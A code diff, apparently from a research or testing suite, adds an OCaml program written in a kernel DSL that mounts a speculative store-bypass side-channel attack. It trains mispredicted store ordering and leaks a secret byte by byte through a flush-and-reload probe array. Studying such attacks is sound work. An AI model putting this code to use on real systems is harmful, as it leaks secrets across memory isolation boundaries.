@@ -1,0 +1,61 @@
+open Gb_kernelc.Dsl
+
+(* Statements computing, in scalar [var], a value that is always zero but
+   only available after [n] dependent multiplications (read it back as
+   [v var ^: v var]... the xor with itself is folded into the final Set).
+   Used both for the "long computation" that delays the safe store's
+   address (paper, Fig. 2) and for a short delay on the malicious load's
+   address so that it is scheduled after the first (malicious) store but
+   well before the slow one. *)
+let zero_after_stmts var seed n =
+  (let_ var seed
+  :: List.init n (fun _ -> set var ((v var *: v var) +: c 1)))
+  @ [ set var (v var ^: v var) ]
+
+let program ?(train = 40) ~secret () =
+  let len = String.length secret in
+  {
+    Gb_kernelc.Ast.arrays =
+      Gb_kernelc.Dsl.array "addr_buf" Gb_kernelc.Ast.I64 [ 8 ]
+      :: Side_channel.standard_arrays ~secret;
+    body =
+      [
+        Side_channel.declare_delta;
+        for_ "k" (c 0) (c len)
+          ([
+             Side_channel.flush_probe_array;
+             for_ "t" (c 0) (c train)
+               ((* addr_buf[i] = &secret - &buffer + k (malicious) *)
+                (("addr_buf", [ c 0 ]) <-: (v "delta" +: v "k"))
+                (* j = 0, after a long computation *)
+                :: zero_after_stmts "j" (v "t" +: c 3) 6
+               @ [
+                   (* addr_buf[j] = safe index *)
+                   Gb_kernelc.Ast.Mem_store
+                     ( Gb_kernelc.Ast.I64,
+                       Gb_kernelc.Ast.Bin
+                         ( Gb_kernelc.Ast.Add,
+                           Gb_kernelc.Ast.Addr_of ("addr_buf", []),
+                           v "j" <<: c 3 ),
+                       c Side_channel.training_byte );
+                 ]
+               (* m = 0, after a short delay: the malicious load lands
+                  between the two stores in the schedule *)
+               @ zero_after_stmts "m" (v "t" +: c 1) 2
+               @ [
+                   let_ "a"
+                     (Gb_kernelc.Ast.Mem
+                        ( Gb_kernelc.Ast.I64,
+                          Gb_kernelc.Ast.Bin
+                            ( Gb_kernelc.Ast.Add,
+                              Gb_kernelc.Ast.Addr_of ("addr_buf", []),
+                              v "m" <<: c 3 ) ));
+                   let_ "b" (arr "buffer" [ v "a" ]);
+                   let_ "x" (arr "array_val" [ v "b" *: c Side_channel.stride ]);
+                   set "a" (v "a" +: (v "x" *: c 0));
+                 ]);
+           ]
+          @ Side_channel.probe_and_record);
+      ];
+    result = c 0;
+  }
